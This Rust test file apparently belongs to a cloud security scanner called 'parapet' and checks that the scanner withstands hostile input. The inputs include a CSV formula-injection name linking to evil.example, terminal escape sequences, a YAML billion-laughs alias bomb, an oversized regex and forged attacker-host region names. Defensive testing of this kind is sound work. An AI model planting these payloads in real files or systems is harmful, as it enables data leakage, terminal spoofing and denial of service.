//! Attacks: hygiene (see tests/attacks_moto.rs). Text an account chooses (resource names)
//! reaches spreadsheets and terminals; files a user is handed (mutelists, control
//! directories) reach the parsers; secrets reach the command line. Each test tries one
//! such attack through the `parapet` binary.

use crate::support::fault_proxy::FaultProxy;
use crate::support::*;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

/// A secret name a spreadsheet would run as a formula (a link that leaks the sheet).
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";
/// A secret name that sets the terminal title, erases the line and rewrites it.
const ESCAPE_NAME: &str = "\u{1b}]0;owned\u{7}ok\u{1b}[2K\rall clear";
const ROTATION: &str = "secretsmanager_automatic_rotation_enabled";

const CREATE_SECRETS: &str = r#"
import sys, boto3
sm = boto3.client("secretsmanager", endpoint_url=sys.argv[1], region_name="us-east-1")
for name in sys.argv[2:]:
    sm.create_secret(Name=name, SecretString="not-the-point")
"#;

/// Reads a CSV file with Python's csv module (an independent RFC 4180 reader).
const READ_CSV: &str = r#"
import csv, json, sys
with open(sys.argv[1], newline="") as f:
    print(json.dumps(list(csv.reader(f))))
"#;

fn run_ok(args: &[&str]) -> Output {
    let out = parapet(args);
    assert!(
        out.status.success(),
        "parapet {args:?} failed:\n{}",
        stderr(&out)
    );
    out
}

/// Scans the rotation control of us-east-1 into `db`, after creating secrets with the
/// attacker's names in the emulated account.
fn scan_hostile_names(moto: &Moto, db: &Path) {
    let mut args = vec!["-c", CREATE_SECRETS, moto.url.as_str()];
    args.extend([FORMULA_NAME, ESCAPE_NAME]);
    python(&args);
    run_ok(&[
        "scan",
        "--endpoint-url",
        &moto.url,
        "--region",
        "us-east-1",
        "--control",
        ROTATION,
        "--format",
        "json",
        "--db",
        db.to_str().unwrap(),
    ]);
}

#[test]
fn a_formula_in_a_resource_name_stays_text_in_the_csv_report() {
    let moto = Moto::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("p.db");
    scan_hostile_names(&moto, &db);
    let csv_path = dir.path().join("f.csv");
    run_ok(&[
        "report",
        "--format",
        "csv",
        "--output",
        csv_path.to_str().unwrap(),
        "--db",
        db.to_str().unwrap(),
    ]);
    let rows: Vec<Vec<String>> =
        serde_json::from_str(&python(&["-c", READ_CSV, csv_path.to_str().unwrap()])).unwrap();
    let name_col = rows[0].iter().position(|h| h == "resource_name").unwrap();
    // The attack really reached the report: the name is there, behind a quote.
    assert!(
        rows.iter()
            .any(|r| r[name_col] == format!("'{FORMULA_NAME}")),
        "{rows:?}"
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell:?}"
            );
        }
    }
}

#[test]
fn escape_sequences_in_a_resource_name_do_not_reach_the_terminal() {
    let moto = Moto::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("p.db");
    scan_hostile_names(&moto, &db);
    let db = db.to_str().unwrap();
    for args in [vec!["report", "--db", db], vec!["inventory", "--db", db]] {
        let text = stdout(&run_ok(&args));
        // The name is shown, minus its control sequences.
        assert!(text.contains("okall clear"), "{args:?}:\n{text}");
        assert!(
            !text.contains(['\u{1b}', '\r', '\u{7}']),
            "{args:?} printed control characters: {text:?}"
        );
    }
}

/// A mutelist of about 30 KB that expands to 500 accounts x 500 checks x 500 resource
/// patterns (125 million strings): each account is an alias of the first, each check an
/// alias of the first check. Every key is valid, so only the expansion can stop it.
fn billion_laughs() -> String {
    const WIDTH: usize = 500;
    let mut text =
        String::from("Mutelist:\n  Accounts:\n    \"000000000000\": &account\n      Checks:\n");
    let patterns = vec!["\"r\""; WIDTH].join(",");
    text.push_str(&format!(
        "        c0: &check {{Regions: [\"*\"], Resources: [{patterns}]}}\n"
    ));
    for i in 1..WIDTH {
        text.push_str(&format!("        c{i}: *check\n"));
    }
    for i in 1..WIDTH {
        text.push_str(&format!("    \"{i:012}\": *account\n"));
    }
    text
}

/// The store's mute rules as `mute list` prints them.
fn mute_list(db: &str) -> String {
    stdout(&run_ok(&["mute", "list", "--db", db]))
}

fn store_with_one_rule(dir: &Path) -> String {
    let db = dir.join("p.db").to_str().unwrap().to_string();
    run_ok(&[
        "mute",
        "add",
        "--control",
        "s3_*",
        "--reason",
        "kept",
        "--db",
        &db,
    ]);
    db
}

#[test]
fn a_billion_laughs_mutelist_is_refused_quickly() {
    let dir = tempfile::tempdir().unwrap();
    let db = store_with_one_rule(dir.path());
    let before = mute_list(&db);
    let bomb = dir.path().join("bomb.yaml");
    std::fs::write(&bomb, billion_laughs()).unwrap();
    let started = Instant::now();
    let out = parapet(&["mute", "import", bomb.to_str().unwrap(), "--db", &db]);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("mutelist") && err.contains("bomb.yaml"),
        "{err}"
    );
    let lower = err.to_lowercase();
    assert!(
        lower.contains("alias") || lower.contains("budget") || lower.contains("replay"),
        "{err}"
    );
    assert_eq!(mute_list(&db), before);
}

#[test]
fn an_oversized_mutelist_is_refused_before_parsing() {
    let dir = tempfile::tempdir().unwrap();
    let db = store_with_one_rule(dir.path());
    let before = mute_list(&db);
    let big = dir.path().join("big.yaml");
    // Valid YAML all the way: only its size is wrong.
    let mut text = String::from("Mutelist:\n  Accounts: {}\n");
    text.push_str(&"# padding\n".repeat(500_000));
    std::fs::write(&big, text).unwrap();
    let out = parapet(&["mute", "import", big.to_str().unwrap(), "--db", &db]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("big.yaml") && err.contains("limit"), "{err}");
    assert_eq!(mute_list(&db), before);
}

#[test]
fn patterns_too_big_for_the_regex_engine_are_errors_naming_the_rule() {
    let dir = tempfile::tempdir().unwrap();
    let db = store_with_one_rule(dir.path());
    let before = mute_list(&db);
    let long_glob = "?".repeat(5000);
    let out = parapet(&[
        "mute",
        "add",
        "--control",
        &long_glob,
        "--reason",
        "r",
        "--db",
        &db,
    ]);
    let err = stderr(&out);
    // 2 is the CLI's error exit; a panic would be 101.
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("mute rule") && err.contains("control glob"),
        "{err}"
    );
    // The same through a mutelist file: a short regex whose compiled form is huge.
    let file = dir.path().join("complex.yaml");
    std::fs::write(
        &file,
        "Mutelist:\n  Accounts:\n    \"*\":\n      Checks:\n        s3_x:\n          Regions: [\"*\"]\n          Resources: [\"(\\\\w{100}){100}\"]\n",
    )
    .unwrap();
    let out = parapet(&["mute", "import", file.to_str().unwrap(), "--db", &db]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("mute rule complex.yaml") || err.contains("complex.yaml:*:s3_x"),
        "{err}"
    );
    assert!(err.contains("too complex"), "{err}");
    assert_eq!(mute_list(&db), before);
}

#[cfg(unix)]
#[test]
fn a_symlink_loop_in_the_controls_dir_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let controls = dir.path().join("controls");
    std::fs::create_dir_all(controls.join("aws/custom")).unwrap();
    std::os::unix::fs::symlink(&controls, controls.join("aws/custom/again")).unwrap();
    let started = Instant::now();
    let out = parapet(&[
        "--controls-dir",
        controls.to_str().unwrap(),
        "controls",
        "list",
    ]);
    assert!(started.elapsed() < Duration::from_secs(30));
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("aws/custom/again") && err.contains("symbolic link loop"),
        "{err}"
    );
}

const ROLE: &str = "arn:aws:iam::123456789012:role/parapet-audit";

/// Scans through a recording proxy as `ROLE`, the ExternalId given by `how`; returns the
/// AssumeRole request body.
fn assume_role_body(how: &[&str], env: &[(&str, &str)]) -> String {
    let moto = Moto::start();
    let proxy = FaultProxy::start(&moto.url, vec![], 1);
    proxy.capture("AssumeRole");
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("p.db");
    let mut args = vec![
        "scan",
        "--endpoint-url",
        &proxy.url,
        "--region",
        "us-east-1",
        "--control",
        ROTATION,
        "--role-arn",
        ROLE,
        "--db",
        db.to_str().unwrap(),
    ];
    args.extend_from_slice(how);
    let out = parapet_env(&args, env);
    assert!(out.status.success(), "{}", stderr(&out));
    let captured = proxy.captured();
    captured
        .last()
        .expect("the role was assumed")
        .request_body
        .clone()
}

// moto does not check a role's trust policy, so a wrong ExternalId would be accepted
// too; what these tests can show is which ExternalId the scanner sent.
#[test]
fn the_external_id_can_come_from_the_environment_or_a_file() {
    let body = assume_role_body(&[], &[("PARAPET_EXTERNAL_ID", "from-env-4f2a")]);
    assert!(body.contains("ExternalId=from-env-4f2a"), "{body}");

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("external-id");
    std::fs::write(&file, "from-file-9c1e\n").unwrap();
    let body = assume_role_body(
        &["--external-id-file", file.to_str().unwrap()],
        &[("PARAPET_EXTERNAL_ID", "from-env-4f2a")],
    );
    assert!(body.contains("ExternalId=from-file-9c1e"), "{body}");

    // A value AWS would refuse is named by where it came from, not echoed.
    std::fs::write(&file, "bad value\n").unwrap();
    let out = parapet(&[
        "scan",
        "--role-arn",
        ROLE,
        "--external-id-file",
        file.to_str().unwrap(),
        "--region",
        "us-east-1",
    ]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("U+0020") && !err.contains("bad value"),
        "{err}"
    );
}

#[test]
fn a_forged_region_is_refused_before_any_call() {
    let moto = Moto::start();
    let proxy = FaultProxy::start(&moto.url, vec![], 1);
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("p.db");
    for region in [
        "evil.example/x",
        "us-east-1.attacker.example",
        "US-EAST-1",
        "",
    ] {
        let out = parapet(&[
            "scan",
            "--endpoint-url",
            &proxy.url,
            "--region",
            region,
            "--db",
            db.to_str().unwrap(),
        ]);
        let err = stderr(&out);
        assert!(!out.status.success(), "{region:?} was accepted");
        assert!(err.contains("not an AWS region name"), "{err}");
    }
    assert!(proxy.seen().is_empty(), "{:?}", proxy.seen());
    assert!(!db.exists(), "a scan was stored");
}
